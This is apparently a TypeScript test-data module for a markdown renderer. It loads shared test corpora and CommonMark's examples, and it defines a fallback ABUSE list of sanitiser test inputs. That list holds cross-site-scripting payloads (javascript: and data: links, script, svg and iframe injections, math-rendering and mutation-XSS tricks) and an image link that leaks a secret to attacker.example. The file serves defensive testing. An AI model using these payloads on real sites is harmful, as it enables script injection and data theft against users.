// The shared test data, which lives beside the project; npm's commonmark-spec is always there.
import { createRequire } from "node:module";
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";

const folder = process.env.INGLENOOK_CORPORA ?? fileURLToPath(new URL("../../../shared/corpora", import.meta.url));

export interface Case {
  class?: string;
  markdown: string;
}

/** The cases of a file; none, after a line that says so, where there is no such file. */
export function corpus(name: string): Case[] {
  const file = join(folder, name);
  if (existsSync(file)) return JSON.parse(readFileSync(file, "utf8"));
  console.log(`no test data at ${file}: set INGLENOOK_CORPORA to run with it`);
  return [];
}

/** CommonMark's own examples. */
export function commonmark(): Case[] {
  const { tests } = createRequire(import.meta.url)("commonmark-spec");
  return tests.map((test: Case) => ({ markdown: test.markdown.replaceAll("→", "\t") }));
}

/** A few inputs that would leak or act, for a clone without the corpora. */
export const ABUSE: Case[] = [
  { class: "image", markdown: "![x](https://attacker.example/p.png?q=SECRET) <img src=https://attacker.example/q onerror=alert(1)>" },
  { class: "scheme", markdown: "[a](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>" },
  { class: "html", markdown: "<script>alert(1)</script>\n\n<svg onload=alert(1)>\n\n<iframe srcdoc='<script>alert(1)</script>'>" },
  { class: "math", markdown: "$\\href{javascript:alert(1)}{x}$ $\\text{</math><img src=x onerror=alert(1)>}$ <math><mtext><script>alert(1)</script>" },
  { class: "fence", markdown: '```" onmouseover=alert(1) x="\nx\n```' },
  { class: "mxss", markdown: "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">\n\n<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">" },
];
